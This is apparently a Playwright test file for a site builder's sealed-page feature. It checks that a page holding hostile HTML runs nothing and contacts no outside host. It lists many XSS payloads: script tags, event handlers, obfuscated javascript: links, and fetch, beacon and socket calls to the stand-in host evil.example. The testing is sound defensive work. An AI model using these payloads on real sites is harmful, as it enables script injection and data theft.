"""A sealed body that tries to run something, or to tell somebody that it was opened."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

import pytest
from playwright.sync_api import Browser, Page

from site_builder.look.words import catalogue
from site_builder.private import sealed_page
from site_builder.private.envelope import Press, seal
from site_builder.private.sealed_page import Mould, mould
from tests.private.browsing import MOULD, OPEN, SECRET, WRONG, Host, alone, hosted, state

EVIL = "http://evil.example"
HOSTILE = {
    "script": "<script>attack()</script>",
    "script in a drawing": "<svg><script>attack()</script></svg>",
    "script from elsewhere": f"<script src='{EVIL}/x.js'></script>",
    "module": f"<script type=module>import '{EVIL}/x.js'</script>",
    "fetch": f"<script>fetch('{EVIL}/x')</script>",
    "socket": "<script>new WebSocket('ws://evil.example/x')</script>",
    "beacon": f"<script>navigator.sendBeacon('{EVIL}/x')</script>",
    "window": f"<script>window.open('{EVIL}/x')</script>",
    "handler of an image": "<img src=x onerror=attack()>",
    "handler of a drawing": "<svg onload=attack()></svg>",
    "handler of a fold": "<details open ontoggle=attack()><summary>x</summary></details>",
    "handler of focus": "<p tabindex=0 autofocus onfocus=attack()>x</p>",
    "handler in capitals": "<IMG SRC=x ONERROR=attack()>",
    "animation": "<svg><animate onbegin=attack() attributeName=x dur=1s></svg>",
    "animated link": "<svg><a><set attributeName=href to='javascript:attack()'></a></svg>",
    "image": f"<img src='{EVIL}/x.png'>",
    "image from https": "<img src='https://evil.example/x.png'>",
    "image of several sizes": f"<img srcset='{EVIL}/x.png 1x'>",
    "image beside": "<img src='x.png'>",
    "picture": f"<picture><source srcset='{EVIL}/x.png'><img></picture>",
    "image in a drawing": f"<svg><image href='{EVIL}/x.png'/></svg>",
    "drawing from elsewhere": f"<svg><use href='{EVIL}/x.svg#a'/></svg>",
    "old drawing from elsewhere": f"<svg><use xlink:href='{EVIL}/x.svg#a'/></svg>",
    "HTML in a drawing": "<svg><foreignObject><iframe srcdoc='x'></iframe></foreignObject></svg>",
    "background": f"<table background='{EVIL}/x.png'><tr><td>x</table>",
    "style": f"<style>body{{background:url({EVIL}/x.png)}}</style>",
    "style that imports": f"<style>@import '{EVIL}/x.css'</style>",
    "style of an element": f"<p style='background:url({EVIL}/x.png)'>x</p>",
    "style sheet": f"<link rel=stylesheet href='{EVIL}/x.css'>",
    "prefetch": f"<link rel=prefetch href='{EVIL}/x'>",
    "preload": f"<link rel=preload as=image href='{EVIL}/x.png'>",
    "connection": f"<link rel=preconnect href='{EVIL}'>",
    "manifest": f"<link rel=manifest href='{EVIL}/x'>",
    "frame": f"<iframe src='{EVIL}/x'></iframe>",
    "frame with a script": "<iframe srcdoc='<script>parent.attack()</script>'></iframe>",
    "frames": f"<frameset><frame src='{EVIL}/x'></frameset><iframe></iframe>",
    "object": f"<object data='{EVIL}/x'></object>",
    "embed": f"<embed src='{EVIL}/x'>",
    "video": f"<video src='{EVIL}/x' autoplay></video>",
    "poster": f"<video poster='{EVIL}/x.png'></video>",
    "form": f"<form action='{EVIL}/x'><button>x</button></form>",
    "base": f"<base href='{EVIL}/'>",
    "template": "<template><script>attack()</script></template>",
    "shadow": "<div><template shadowrootmode=open><script>attack()</script></template></div>",
    "element of its own": "<x-attack></x-attack>",
    "mathematics": "<math><mtext><script>attack()</script></mtext></math>",
    "a ping": f"<a href='#x' ping='{EVIL}/x'>x</a>",
    "a link that is a script": "<a href='javascript:attack()'>x</a>",
    "a disguised one": "<a href=' &#x6a;ava&Tab;script:attack()'>x</a>",
    "a link that is data": "<a href='data:text/html,<script>attack()</script>'>x</a>",
    "a link in a drawing": "<svg><a xlink:href='javascript:attack()'><text>x</text></a></svg>",
    "an end of the page": "</body></html><script>attack()</script>",
}
# What a policy cannot forbid, so that only the look at the elements stands against it.
BEYOND_POLICY = {
    "moving on": f"<meta http-equiv=refresh content='0;url={EVIL}/x'>",
    "a field, of which a browser may tell its maker": "<input autofocus>",
}
GATE = 'must(Array.from(body.querySelectorAll("*")).every(isSafe));'


@dataclass(frozen=True)
class Window:
    """A page of a browser for which one host is all the world."""

    page: Page
    host: Host

    def opens(self, body: str, shape: Mould = MOULD) -> str:
        """What a page with this body says of itself, a while after it was opened."""
        self.page.goto("about:blank")
        self.host.files = {"/": shape.page(seal(Press().packed(f"<p>Noor</p>{body}"), SECRET))}
        self.host.asked.clear()
        self.page.goto(f"{self.host.address}/#{SECRET.link}")
        state(self.page)
        self.page.wait_for_timeout(100)
        return state(self.page)

    def nothing_happened(self) -> None:
        """Fails where something has run, or has asked anybody for anything."""
        assert self.page.evaluate("self.attacks") == 0
        assert self.host.asked == [f"{self.host.address}/"], "the page itself, and nothing else in all the world"
        assert self.page.context.pages == [self.page]


@pytest.fixture(scope="module")
def window(browser: Browser) -> Iterator[Window]:
    """A window in which an attack that works is counted."""
    with hosted({}) as host, alone(browser, proxy={"server": host.address}) as page:
        page.add_init_script("self.attacks = 0; self.attack = () => { self.attacks += 1 }")
        yield Window(page, host)


@pytest.fixture(scope="module")
def gateless() -> Mould:
    """A mould whose script places whatever it finds, so that the policy stands alone."""
    whole = sealed_page.source
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(sealed_page, "source", lambda *names: whole(*names).replace(GATE, ""))
        made = mould(catalogue(), "en", "ltr")
    assert GATE.encode("ascii") in MOULD.after
    assert GATE.encode("ascii") not in made.after
    return made


@pytest.mark.browser
@pytest.mark.parametrize("kind", [*HOSTILE, *BEYOND_POLICY])
def test_a_hostile_body_is_refused_whole_and_asks_for_nothing(kind: str, window: Window) -> None:
    said = window.opens((HOSTILE | BEYOND_POLICY)[kind])
    if kind in ("style", "style that imports"):
        assert said == OPEN, "a style that is not known is placed, and has no effect"
    else:
        assert said == WRONG
        assert window.page.get_by_text("Noor").count() == 0
    window.nothing_happened()


@pytest.mark.browser
@pytest.mark.parametrize("kind", HOSTILE)
def test_the_policy_alone_holds_too(kind: str, window: Window, gateless: Mould) -> None:
    assert window.opens(HOSTILE[kind], gateless) == OPEN
    for link in window.page.locator("body > :not(main) a, body > a").all():
        link.dispatch_event("click")
    window.page.wait_for_timeout(50)
    window.nothing_happened()


@pytest.mark.browser
@pytest.mark.parametrize(
    "attempt",
    [
        "document.body.innerHTML = '<img src=x onerror=attack()>'",
        "document.body.insertAdjacentHTML('beforeend', '<b>x</b>')",
        "new DOMParser().parseFromString('<b>x</b>', 'text/html')",
        "trustedTypes.createPolicy('continuum', {createHTML: it => it})",
        "trustedTypes.createPolicy('default', {createHTML: it => it})",
        "document.createElement('script').text = 'attack()'",
    ],
)
def test_nothing_can_be_made_of_a_text_once_the_page_is_open(attempt: str, window: Window) -> None:
    assert window.opens("<p>x</p>") == OPEN
    tried = f"() => {{ try {{ {attempt}; return 'made' }} catch {{ return 'refused' }} }}"
    assert window.page.evaluate(tried) == "refused"
    window.nothing_happened()
